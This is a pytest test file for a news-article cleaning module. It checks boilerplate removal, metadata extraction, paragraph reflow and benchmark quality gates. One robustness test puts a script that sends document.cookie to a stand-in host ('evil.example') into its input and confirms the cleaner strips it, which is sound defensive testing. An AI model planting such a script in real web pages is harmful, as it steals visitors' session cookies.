"""Clean stage on the five seed dumps, a small HTML page of our own and hostile input."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from storyline.clean import (
    CHROME_MIN_DOCUMENTS,
    STAGE2_FEATURES,
    clean_document,
    clean_documents,
    find_chrome_lines,
    guess_language,
    load_unit_model,
    normalise_line,
    plain_unit_rows,
    second_stage_rows,
    unit_model_from_json,
)
from storyline.model import Document

SEEDS = Path(__file__).resolve().parents[2] / "shared" / "seeds"
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "clean"

# Boilerplate lines of each seed that must not survive into clean_text.
BOILERPLATE = {
    "000": [
        "Share and Follow",
        "NEVER MISS A STORY: Get your breaking news and exclusive stories first by following us across all platforms.",
    ],
    "001": ["|", "| |"],
    "002": [
        "Facebook Twitter LinkedIn",
        "admin",
        "Content creator at LTD News. Passionate about delivering high-quality news and stories.",
        "Comments",
        "Leave a Comment",
        "Be the first to comment on this article!",
        "Loading...",
        "Loading next article...",
        "You've read all our articles!",
        "Error loading more articles",
        "loader",
    ],
    "003": ["Site icon Occasional Digest", "Occasional Digest - a story for you", "Source link", "Exit mobile version"],
    "004": [
        "EurActiv publishes free, independent policy news and facilitates open policy debates in 12 languages.",
        "Leave a Reply",
        "Your email address will not be published. Required fields are marked *",
    ],
}
# Raw title lines (taken out of the body into Document.title).
TITLE_LINES = {
    "000": [],
    "001": ["Xi, Putin Reinforce Ties in Video Call 02/04 06:20"],
    "002": ["Putin and Xi talk stronger Russia-China ties post-Trump inauguration"],
    "003": ["Xi Jinping and Vladimir Putin pledge closer ties, discuss ‘political solution’ to war in Ukraine"],
    "004": ["Putin Expects China’s Xi To Visit In Spring, Wants To Boost Military Cooperation"],
}
EXPECTED_META = {  # seed: (title, outlet, dateline, date_stamp)
    "000": (None, None, None, None),
    "001": ("Xi, Putin Reinforce Ties in Video Call", "AP", "BEIJING (AP)", "02/04 06:20"),
    "002": ("Putin and Xi talk stronger Russia-China ties post-Trump inauguration", "LTD News", None, None),
    "003": (TITLE_LINES["003"][0], "Occasional Digest", None, None),
    "004": (TITLE_LINES["004"][0], "EurActiv", "(EurActiv)", None),
}
HEADINGS = {
    "000": ["Growing Russia-China relations", "Putin and Xi discuss ties with the US"],
    "002": ["Space for dialogue", "'Long-term' peace in Ukraine"],
    "003": ["Political settlement to Ukraine war the ‘right direction’"],
}
SENTENCE_END = re.compile(r"""[.!?…:]['"’”)]*$|['"’”]$""")


def _seed_path(key: str) -> Path:
    matches = sorted(SEEDS.glob(f"{key}_*.txt"))
    assert matches, f"seed {key} missing under {SEEDS}"
    return matches[0]


def _seed_doc(key: str, **given: str) -> Document:
    path = _seed_path(key)
    return Document(id=key, path=str(path), raw_text=path.read_text(encoding="utf-8"), given=dict(given))


@pytest.fixture(scope="module")
def cleaned() -> dict[str, Document]:
    docs = [_seed_doc(key) for key in sorted(BOILERPLATE)]
    return {doc.id: doc for doc in clean_documents(docs)}


def _tokens(text: str) -> list[str]:
    return re.findall(r"\w+", text)


@pytest.mark.parametrize("key", sorted(BOILERPLATE))
def test_boilerplate_gone_and_audited(cleaned: dict[str, Document], key: str) -> None:
    doc = cleaned[key]
    paragraphs = doc.paragraph_texts()
    for line in BOILERPLATE[key]:
        assert line not in paragraphs
        if len(line.split()) >= 3:
            assert line not in doc.clean_text
        assert line in doc.removed_lines


@pytest.mark.parametrize("key", sorted(BOILERPLATE))
def test_no_sentence_lost(cleaned: dict[str, Document], key: str) -> None:
    """Every other raw line's words appear in clean_text, in order, and nothing else does."""
    doc = cleaned[key]
    dropped = set(BOILERPLATE[key]) | set(TITLE_LINES[key])
    kept = [ln.strip() for ln in doc.raw_text.splitlines() if ln.strip() and ln.strip() not in dropped]
    expected = _tokens("\n".join(kept))
    assert _tokens(doc.dateline or "") + _tokens(doc.clean_text) == expected


@pytest.mark.parametrize("key", sorted(EXPECTED_META))
def test_seed_metadata(cleaned: dict[str, Document], key: str) -> None:
    doc = cleaned[key]
    assert (doc.title, doc.outlet, doc.dateline, doc.date_stamp) == EXPECTED_META[key]
    assert doc.language == "en"
    assert doc.published is None  # no seed prints a full date with a year
    assert doc.url is None


@pytest.mark.parametrize("key", sorted(BOILERPLATE))
def test_paragraph_offsets_slice_clean_text(cleaned: dict[str, Document], key: str) -> None:
    doc = cleaned[key]
    texts = doc.paragraph_texts()
    assert doc.paragraphs and "\n\n".join(texts) == doc.clean_text
    for para, text in zip(doc.paragraphs, texts):
        assert text == text.strip() and text and "\n" not in text
        assert doc.clean_text[para.start : para.end] == text


def test_split_paragraph_rejoined(cleaned: dict[str, Document]) -> None:
    paragraphs = cleaned["004"].paragraph_texts()
    joined = [p for p in paragraphs if "share of Chinese yuan in its National Wealth Fund" in p]
    assert len(joined) == 1
    assert "Chinese yuan" not in paragraphs


def test_hard_wrapped_text_reflowed(cleaned: dict[str, Document]) -> None:
    paragraphs = cleaned["001"].paragraph_texts()
    assert 8 <= len(paragraphs) <= 14
    for text in paragraphs:
        assert SENTENCE_END.search(text), text
        assert not text[0].islower(), text
    assert paragraphs[0].startswith("Russian President Vladimir Putin hailed")
    assert paragraphs[0].endswith("Jinping on Wednesday.")


@pytest.mark.parametrize("key", sorted(HEADINGS))
def test_subheadings_kept_as_paragraphs(cleaned: dict[str, Document], key: str) -> None:
    paragraphs = cleaned[key].paragraph_texts()
    for heading in HEADINGS[key]:
        assert heading.replace("'", "’") in paragraphs or heading in paragraphs


def test_body_paragraphs_end_like_sentences(cleaned: dict[str, Document]) -> None:
    for key, doc in cleaned.items():
        headings = set(HEADINGS.get(key, []))
        for text in doc.paragraph_texts():
            if text not in headings and len(text.split()) > 8:
                assert SENTENCE_END.search(text), (key, text[-60:])


def test_repeated_title_removed_from_body(cleaned: dict[str, Document]) -> None:
    doc = cleaned["002"]
    assert doc.title not in doc.clean_text
    assert doc.removed_lines.count(TITLE_LINES["002"][0]) == 2


def test_given_metadata_wins() -> None:
    given = {
        "title": "Given title",
        "outlet": "Given Outlet",
        "url": "https://example.org/given",
        "published": "2026-02-04",
        "author": "Given Author",
    }
    doc = clean_document(_seed_doc("001", **given))
    assert (doc.title, doc.outlet, doc.url, doc.byline) == (
        "Given title",
        "Given Outlet",
        "https://example.org/given",
        "Given Author",
    )
    assert doc.published is not None
    assert (doc.published.value, doc.published.certain, doc.published.source) == ("2026-02-04", True, "metadata")
    assert doc.dateline == "BEIJING (AP)"  # inferred fields still filled


def test_given_date_without_year_is_not_certain() -> None:
    doc = clean_document(_seed_doc("001", published="February 4"))
    assert doc.published is None


def test_printed_publication_line_and_byline() -> None:
    text = (
        "https://news.example.org/harbour/bridge-reopens\n"
        "Harbour bridge reopens after two-year repair\n"
        "By Jane Example | Published 5 January 2024\n"
        "Share this article\n\n"
        "WELLINGTON -- The old harbour bridge reopened to traffic on Friday after a repair that took two years.\n"
        "Officials said the deck had been replaced in full.\n"
        "Related articles\n"
    )
    doc = clean_document(Document(id="t", path="t", raw_text=text))
    assert doc.title == "Harbour bridge reopens after two-year repair"
    assert doc.byline == "Jane Example"
    assert doc.url == "https://news.example.org/harbour/bridge-reopens"
    assert doc.dateline == "WELLINGTON"
    assert doc.published is not None and doc.published.value == "2024-01-05"
    assert doc.published.source == "text" and doc.published.certain
    assert doc.paragraph_texts() == [
        "The old harbour bridge reopened to traffic on Friday after a repair that took two years.",
        "Officials said the deck had been replaced in full.",
    ]
    assert "Share this article" in doc.removed_lines and "Related articles" in doc.removed_lines


def test_updated_line_is_not_a_publication_date() -> None:
    text = (
        "Updated: March 3, 2025\n"
        "Council approves the new budget for the coming year\n"
        "The council voted seven to two on Thursday to approve the budget, which raises spending on roads.\n"
    )
    doc = clean_document(Document(id="t", path="t", raw_text=text))
    assert doc.date_stamp == "March 3, 2025"
    assert doc.published is None
    assert doc.title == "Council approves the new budget for the coming year"


def test_html_fixture_extracted_with_title_and_date() -> None:
    html = (FIXTURES / "article.html").read_text(encoding="utf-8")
    doc = clean_document(Document(id="h", path="article.html", raw_text=html, raw_format="html"))
    assert doc.title == "Lighthouse keepers return to remote island"
    assert doc.published is not None
    assert (doc.published.value, doc.published.certain, doc.published.source) == ("2023-09-14", True, "metadata")
    assert doc.outlet == "The Coastal Ledger"
    assert doc.byline == "Mara Quill"
    assert doc.url == "https://coastal-ledger.example/2023/09/lighthouse-keepers"
    assert doc.dateline == "PORT ELLIS (CL)"
    paragraphs = doc.paragraph_texts()
    assert paragraphs[0].startswith("Two keepers moved back into the stone lighthouse")
    assert "Funding for repairs" in paragraphs
    assert paragraphs[-1].endswith("before the move.")
    for chrome in ("Great news, I visited as a child!", "Share on Facebook", "All rights reserved", "dataLayer"):
        assert chrome not in doc.clean_text
    assert doc.language == "en"


def test_html_sniffed_in_text_format() -> None:
    html = (FIXTURES / "article.html").read_text(encoding="utf-8")
    doc = clean_document(Document(id="h", path="article.txt", raw_text=html, raw_format="text"))
    assert doc.title == "Lighthouse keepers return to remote island"
    assert "<p>" not in doc.clean_text


def _batch_doc(i: int, with_tagline: bool) -> Document:
    lines = [
        f"Story number {i} opens with a sentence long enough to be read as real article prose here.",
        "Riverside Courier Morning Edition" if with_tagline else "",
        f"A second paragraph for story {i} carries on with different words and a quote from an official.",
        "The ministry did not respond to a request for comment on the matter on Tuesday.",
    ]
    return Document(id=f"d{i}", path=f"d{i}", raw_text="\n".join(lines))


def test_batch_repetition_removes_template_lines_only_at_threshold() -> None:
    batch = [_batch_doc(i, True) for i in range(CHROME_MIN_DOCUMENTS)]
    chrome = find_chrome_lines(batch)
    assert normalise_line("Riverside Courier Morning Edition") in chrome
    # a sentence repeated by syndicated copies is prose, not chrome
    assert normalise_line("The ministry did not respond to a request for comment on the matter on Tuesday.") not in chrome
    for doc in clean_documents(batch):
        assert "Riverside Courier Morning Edition" not in doc.clean_text
        assert "Riverside Courier Morning Edition" in doc.removed_lines
        assert "did not respond to a request for comment" in doc.clean_text
    below = clean_documents(batch[: CHROME_MIN_DOCUMENTS - 1])
    assert all("Riverside Courier Morning Edition" in doc.paragraph_texts() for doc in below)


def test_chrome_lines_argument_is_used() -> None:
    doc = _batch_doc(1, True)
    assert "Riverside Courier Morning Edition" in clean_document(doc).paragraph_texts()
    chrome = frozenset({normalise_line("Riverside Courier Morning Edition")})
    assert "Riverside Courier Morning Edition" not in clean_document(doc, chrome).clean_text


def test_normalise_line() -> None:
    assert normalise_line("  Leave   a  COMMENT ") == normalise_line("leave a comment")
    assert normalise_line("12 Comments") == normalise_line("3 comments")
    assert normalise_line("“Quoted”  line.") == '"quoted" line'
    assert normalise_line("Share and Follow") != normalise_line("Share and follow us")


def test_language_guess() -> None:
    assert guess_language("The minister said on Monday that the talks with the union were going well.") == "en"
    german = "Der Minister sagte am Montag, dass die Gespräche mit der Gewerkschaft gut verlaufen und nicht scheitern."
    assert guess_language(german) == "de"
    assert guess_language("Xqz vrk plm trs") is None
    assert guess_language("") is None


def test_hostile_input_does_not_crash_or_hang() -> None:
    script = "<script>\nfetch('//evil.example/?c=' + document.cookie);\nwhile (true) { x = x + 1; }\n</script>"
    text = (
        "Bridge reopens after long repair works\n"
        f"{script}\n"
        "<script>alert('x')</script>The bridge reopened on Friday after two years of repair work by the city.\n"
        "<style>body { display: none; }</style>\n"
        "Officials said the cost had risen but the work was finished on time.\n"
    )
    doc = clean_document(Document(id="s", path="s", raw_text=text))
    assert "alert" not in doc.clean_text and "cookie" not in doc.clean_text and "<" not in doc.clean_text
    assert "The bridge reopened on Friday after two years of repair work by the city." in doc.paragraph_texts()
    assert any("document.cookie" in line for line in doc.removed_lines)

    for payload in ("a" * 1_000_000, "word " * 200_000, "(" * 1_000_000, "<script>" + "x" * 1_000_000, "BEIJING " * 120_000 + "(AP) -- x"):
        start = time.monotonic()
        result = clean_document(Document(id="big", path="big", raw_text=payload))
        assert time.monotonic() - start < 10
        assert len(result.clean_text) <= len(payload)


def test_inline_markup_stripped_and_tail_headlines_dropped() -> None:
    text = (
        "Harbour bridge reopens after two-year repair\n\n"
        "The old harbour bridge reopened to traffic on Friday after a repair that took two years.\n"
        '<post author="@cityhall" date="2024-01-05">The bridge is open again, thank you for your patience.</post>\n'
        "Officials said the deck had been replaced in full and the work came in under budget.\n"
        "Final vote count.\n"
        "Related coverage\n"
        "Ferry fares to rise in spring\n"
        "Council debates new cycle lanes\n"
    )
    doc = clean_document(Document(id="t", path="t", raw_text=text))
    paragraphs = doc.paragraph_texts()
    assert "The bridge is open again, thank you for your patience." in paragraphs
    assert "Final vote count." in paragraphs  # a short note below the body still ends like a sentence
    for line in ("Related coverage", "Ferry fares to rise in spring", "Council debates new cycle lanes"):
        assert line not in doc.clean_text and line in doc.removed_lines
    assert doc.title == "Harbour bridge reopens after two-year repair"


def test_empty_and_broken_html() -> None:
    for payload in ("", "<html>", "<html><body>" + "<div>" * 5000 + "x", "<html><script>" + "a" * 200_000):
        doc = clean_document(Document(id="h", path="h", raw_text=payload, raw_format="html"))
        assert doc.clean_text == "" and doc.paragraphs == [] and doc.published is None


# --- quality gate on the extraction benchmarks (STYLE.md §9) -----------------------------------

MODEL_FILE = Path(__file__).resolve().parents[1] / "src" / "storyline" / "clean_model.json"


def _seed_rows(key: str) -> list[list[float]]:
    return plain_unit_rows(_seed_path(key).read_text(encoding="utf-8"))[1]


def test_second_stage_rows_describe_the_probable_run() -> None:
    rows = _seed_rows("002")
    model = load_unit_model()
    first = [float(p) for p in model.first.probabilities(rows)]
    extra = second_stage_rows(rows, first)
    assert len(extra) == len(rows) and {len(r) for r in extra} == {len(STAGE2_FEATURES)}
    column = {name: [r[i] for r in extra] for i, name in enumerate(STAGE2_FEATURES)}
    assert column["p"] == first
    assert column["p_prev"][1:] == first[:-1] and column["p_next2"][:-2] == first[2:]
    run = [i for i, x in enumerate(column["in_probable_run"]) if x]
    assert run and run == list(range(run[0], run[-1] + 1))  # one contiguous block
    assert max(first[run[0] : run[-1] + 1]) >= 0.5  # ... holding the probable body
    before = column["probable_words_before_share"]
    assert before == sorted(before) and before[0] == 0.0 and before[-1] <= 1.0
    assert abs(sum(column["p_minus_page_mean"])) < 1e-9
    assert all(lo <= p <= hi for lo, p, hi in zip(column["p_min_2"], first, column["p_max_2"]))


def test_first_stage_vouches_for_a_closing_paragraph_only_inside_the_prose_region() -> None:
    from storyline.clean import keep_by_probabilities

    page, rows = plain_unit_rows(_seed_path("003").read_text(encoding="utf-8"))
    texts = [u.text for u in page.units]
    closing = next(i for i, t in enumerate(texts) if t.startswith("Mr Putin’s newly appointed defence minister"))
    title = texts.index(TITLE_LINES["003"][0])  # above the body: no prose region there
    threshold = load_unit_model().threshold
    final = [0.95] * len(rows)
    final[closing] = final[title] = 0.05  # a second stage doubting both
    first = list(final)
    first[closing] = first[title] = 0.9  # ... which the first stage believed
    alone = keep_by_probabilities(page, frozenset(), rows, final, threshold)
    vouched = keep_by_probabilities(page, frozenset(), rows, final, threshold, first)
    assert not alone[closing] and vouched[closing]
    assert not vouched[title]
    assert [i for i, (a, b) in enumerate(zip(alone, vouched)) if a != b] == [closing]


def test_subheading_kept_only_between_kept_body_sentences() -> None:
    """A doubted section heading survives when the first stage believes it and body sentences flank it."""
    from storyline.clean import keep_by_probabilities

    page, rows = plain_unit_rows(_seed_path("000").read_text(encoding="utf-8"))
    texts = [u.text for u in page.units]
    heading = texts.index(HEADINGS["000"][0])
    threshold = load_unit_model().threshold
    final = [0.95] * len(rows)
    final[heading] = 0.1  # a second stage doubting the heading
    first = list(final)
    first[heading] = 0.9  # ... which the first stage believed
    assert not keep_by_probabilities(page, frozenset(), rows, final, threshold)[heading]
    assert keep_by_probabilities(page, frozenset(), rows, final, threshold, first)[heading]
    for side in (heading - 1, heading + 1):  # chrome on either side: a menu line, not a heading
        doubted, believed = list(final), list(first)
        doubted[side] = believed[side] = 0.0
        kept = keep_by_probabilities(page, frozenset(), rows, doubted, threshold, believed)
        assert not kept[side] and not kept[heading]


def test_every_shipped_tree_reaches_a_leaf_within_its_depth() -> None:
    """Evaluation walks ``depth`` steps: a path longer than that would stop at a split node."""
    import json

    data = json.loads(MODEL_FILE.read_text(encoding="utf-8"))
    for stage in (data, data.get("second_stage") or data):
        for tree in stage["trees"]:
            left, right = tree["left"], tree["right"]
            depth_of = {0: 0}
            for node in range(len(left)):  # parents precede children in both exporters
                if left[node] >= 0:
                    depth_of[left[node]] = depth_of[right[node]] = depth_of[node] + 1
            leaves = [n for n in range(len(left)) if left[n] < 0]
            assert leaves and all(right[n] < 0 for n in leaves)
            assert max(depth_of[n] for n in leaves) <= tree["depth"]
            assert len(depth_of) == len(left)  # every node reachable from the root


def test_one_stage_model_file_still_works() -> None:
    import json

    data = json.loads(MODEL_FILE.read_text(encoding="utf-8"))
    data.pop("second_stage", None)
    model = unit_model_from_json(data)
    assert model is not None and model.second is None
    rows = _seed_rows("002")
    assert model.page_probabilities(rows) == [float(p) for p in model.first.probabilities(rows)]
    doc = clean_document(_seed_doc("002"), unit_model=model)
    for line in BOILERPLATE["002"]:
        assert line not in doc.paragraph_texts()
    assert "Space for dialogue" in doc.paragraph_texts()


def test_a_second_stage_reads_stacked_rows_and_one_for_other_features_is_refused() -> None:
    import json

    from storyline.clean import UNIT_FEATURES

    data = json.loads(MODEL_FILE.read_text(encoding="utf-8"))
    # a second stage made of the first stage's trees: they read only the unit features, which
    # lead the stacked rows, so it must give the first stage's probabilities back
    data["second_stage"] = {"features": list(UNIT_FEATURES + STAGE2_FEATURES), "init": data["init"],
                            "learning_rate": data["learning_rate"], "trees": data["trees"]}
    model = unit_model_from_json(data)
    assert model is not None and model.second is not None
    rows = _seed_rows("002")
    assert model.page_probabilities(rows) == pytest.approx([float(p) for p in model.first.probabilities(rows)])
    data["second_stage"]["features"] = data["second_stage"]["features"][:-1]
    assert unit_model_from_json(data) is None  # its threshold belongs to a stage this code cannot compute


BENCH = Path(__file__).resolve().parents[1] / "bench"
GATE_PAGES = 15  # per set: the first pages by id, the same every run
# Floors about 0.01-0.02 under what this subset measured (AEB 4-gram F1 html 0.987, dump 0.902;
# WCXB bag F1 html 0.976, dump 0.950); the full-set numbers are in bench/README.md.
GATE_FLOORS = {
    ("aeb", "html"): 0.975,
    ("wcxb", "html"): 0.96,
    ("aeb", "text"): 0.885,
    ("wcxb", "text"): 0.935,
}


@pytest.fixture(scope="module")
def bench_common():
    import sys

    sys.path.insert(0, str(BENCH))
    try:
        import _extraction_common as common
    finally:
        sys.path.remove(str(BENCH))
    if not (common.AEB / "ground-truth.json").is_file() or not (common.WCXB / "ground-truth").is_dir():
        pytest.skip("extraction benchmarks not present under ../shared/data/extraction")
    return common


def _gate_score(common, set_name: str, mode: str) -> float:
    pages = common.load_aeb(GATE_PAGES) if set_name == "aeb" else common.load_wcxb(GATE_PAGES)
    if mode == "html":
        docs = [Document(id=p.id, path=f"{p.id}.html", raw_text=p.html, raw_format="html") for p in pages]
    else:
        docs = [Document(id=p.id, path=f"{p.id}.txt", raw_text=common.visible_text(p.html)) for p in pages]
    cleaned = clean_documents(docs)
    texts = [f"{d.dateline} {d.clean_text}" if d.dateline else d.clean_text for d in cleaned]
    if set_name == "wcxb":
        return sum(common.bag_f1(p.body, t) for p, t in zip(pages, texts)) / len(pages)
    pr = [common.shingle_pr(p.body, t) for p, t in zip(pages, texts)]
    return common.f1(sum(p for p, _ in pr) / len(pr), sum(r for _, r in pr) / len(pr))


@pytest.mark.parametrize("set_name,mode", sorted(GATE_FLOORS))
def test_extraction_quality_gate(bench_common, set_name: str, mode: str) -> None:
    score = _gate_score(bench_common, set_name, mode)
    print(f"gate {set_name} {mode}: {score:.4f}")
    assert score >= GATE_FLOORS[(set_name, mode)]


def test_plain_text_teaser_and_closing_credit_leave_the_body(cleaned) -> None:
    """A teaser line pasted mid-article and a wire credit at the end, in a seed's scraped text:
    both go, and the body is otherwise what it was."""
    seed = _seed_doc("001")
    lines = seed.raw_text.split("\n")
    middle = next(i for i in range(len(lines) // 2, len(lines)) if lines[i - 1].endswith("."))  # after a sentence
    teaser = "Related: Xi and Putin meet again as trade between the two countries grows"
    credit = "Reporting by Anna Example in Moscow; Editing by Ben Example"
    raw = "\n".join(lines[:middle] + ["", teaser, ""] + lines[middle:] + ["", credit])
    doc = clean_documents([Document(id="001", path=seed.path, raw_text=raw)])[0]
    assert teaser not in doc.clean_text and credit not in doc.clean_text
    assert doc.clean_text == cleaned["001"].clean_text
